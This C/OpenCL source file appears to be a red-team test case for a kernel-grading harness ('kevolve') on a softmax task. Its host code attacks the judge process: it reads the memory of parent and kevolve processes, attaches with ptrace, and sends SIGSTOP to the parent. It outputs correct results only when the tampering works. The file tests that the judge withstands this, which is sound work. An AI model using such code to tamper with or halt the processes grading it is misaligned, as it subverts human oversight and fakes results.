/* Red team, class THE JUDGE WITHIN REACH (issue 11), opencl, task softmax.
 *
 * The host half goes for the judge's process on its first call (as
 * cpu/reach_parent.c): reads the memory of its parent and of every kevolve
 * above it, attaches to them with ptrace, stops its parent with SIGSTOP.
 * When any of that worked it enqueues the baseline (right answers);
 * otherwise zeros.
 *
 * The judge must say: rejected (wrong_result); the judge is never
 * stopped. */
#ifdef __OPENCL_VERSION__

/* The task's baseline kernel, as it is: one work-item per row, three passes. */
__kernel void softmax_rows(__global const float *x, __global float *y, long rows, long cols)
{
    long r = get_global_id(0);
    if (r >= rows) return;
    __global const float *xr = x + r * cols;
    __global float *yr = y + r * cols;
    float m = -INFINITY;
    for (long c = 0; c < cols; c++)
        m = fmax(m, xr[c]);
    float sum = 0.0f;
    for (long c = 0; c < cols; c++)
        sum += exp(xr[c] - m);
    for (long c = 0; c < cols; c++)
        yr[c] = exp(xr[c] - m) / sum;
}

/* Zeros for y, reading x (the bytes the roofline expects). */
__kernel void zeros(__global const float *x, __global float *y, long n)
{
    long i = get_global_id(0);
    if (i < n) y[i] = x[i] * 0.0f;
}

#else
#define _GNU_SOURCE
#include <kevolve/task.h>
#include <CL/cl.h>
#include <string.h>

/* ---- reaching the judge's process ---- */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* The parent of PID (-1 when unknown); its command name into COMM. */
static int rt_up(int pid, char *comm, size_t cap)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    comm[0] = 0;
    FILE *f = fopen(path, "r");
    if (!f) return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    char *open_paren = strchr(buf, '('), *close_paren = strrchr(buf, ')');
    if (!open_paren || !close_paren) return -1;
    size_t len = (size_t)(close_paren - open_paren - 1);
    if (len >= cap) len = cap - 1;
    memcpy(comm, open_paren + 1, len);
    comm[len] = 0;
    char state;
    int ppid = -1;
    if (sscanf(close_paren + 1, " %c %d", &state, &ppid) != 2) return -1;
    return ppid;
}

/* Reads 64 bytes of PID's first writable mapping through /proc/PID/mem and
 * through process_vm_readv: 1 when either worked. */
static int rt_read_judge(int pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    unsigned long lo = 0;
    while (fgets(line, sizeof line, f)) {
        unsigned long a;
        char perms[8];
        if (sscanf(line, "%lx-%*x %7s", &a, perms) == 2 && perms[0] == 'r' && perms[1] == 'w') {
            lo = a;
            break;
        }
    }
    fclose(f);
    if (!lo) return 0;
    unsigned char buf[64];
    int got = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    f = fopen(path, "rb");
    if (f) {
        got = fseek(f, (long)lo, SEEK_SET) == 0 && fread(buf, 1, sizeof buf, f) == sizeof buf;
        fclose(f);
    }
    struct iovec l = {buf, sizeof buf}, r = {(void *)lo, sizeof buf};
    return got || process_vm_readv(pid, &l, 1, &r, 1, 0) == (ssize_t)sizeof buf;
}

/* Attacks the judge: the parent and every kevolve process above it (never
 * anything else: a test runner or a shell is left alone). Reads their
 * memory, attaches to them with ptrace, and stops the parent with SIGSTOP
 * (it is not resumed). Returns how many of these worked. */
static int rt_attack_judge(void)
{
    int wins = 0, pid = getppid();
    for (int depth = 0; depth < 8 && pid > 1; depth++) {
        char comm[64];
        int up = rt_up(pid, comm, sizeof comm);
        if (depth == 0 || strncmp(comm, "kevolve", 7) == 0) {
            wins += rt_read_judge(pid);
            if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
                wins++;
                ptrace(PTRACE_DETACH, pid, NULL, NULL);
            }
        }
        pid = up;
    }
    if (kill(getppid(), SIGSTOP) == 0) wins++;
    return wins;
}
/* ---- end of the reaching ---- */

/* Enqueues the device kernel NAME (softmax_rows or zeros) on queue Q, or
 * on the harness's queue when Q is NULL. Returns 0 on success. */
static int rt_enqueue(const kv_launch_args *a, const char *name, cl_command_queue q)
{
    cl_kernel k = (cl_kernel)a->cl_kernel(a, name);
    if (!k) return 1;
    cl_mem x = (cl_mem)a->tensors[0], y = (cl_mem)a->tensors[1];
    cl_long rows = a->syms[0], cols = a->syms[1], n = rows * cols;
    int whole = strcmp(name, "zeros") == 0;
    clSetKernelArg(k, 0, sizeof x, &x);
    clSetKernelArg(k, 1, sizeof y, &y);
    if (whole) {
        clSetKernelArg(k, 2, sizeof n, &n);
    } else {
        clSetKernelArg(k, 2, sizeof rows, &rows);
        clSetKernelArg(k, 3, sizeof cols, &cols);
    }
    size_t global = (size_t)(whole ? n : rows);
    return clEnqueueNDRangeKernel(q ? q : (cl_command_queue)a->stream, k, 1, NULL, &global, NULL,
                                  0, NULL, NULL) == CL_SUCCESS
               ? 0
               : 2;
}

int kv_launch(const kv_launch_args *a)
{
    static int wins = -1;
    if (wins < 0) wins = rt_attack_judge();
    return rt_enqueue(a, wins > 0 ? "softmax_rows" : "zeros", NULL);
}
#endif
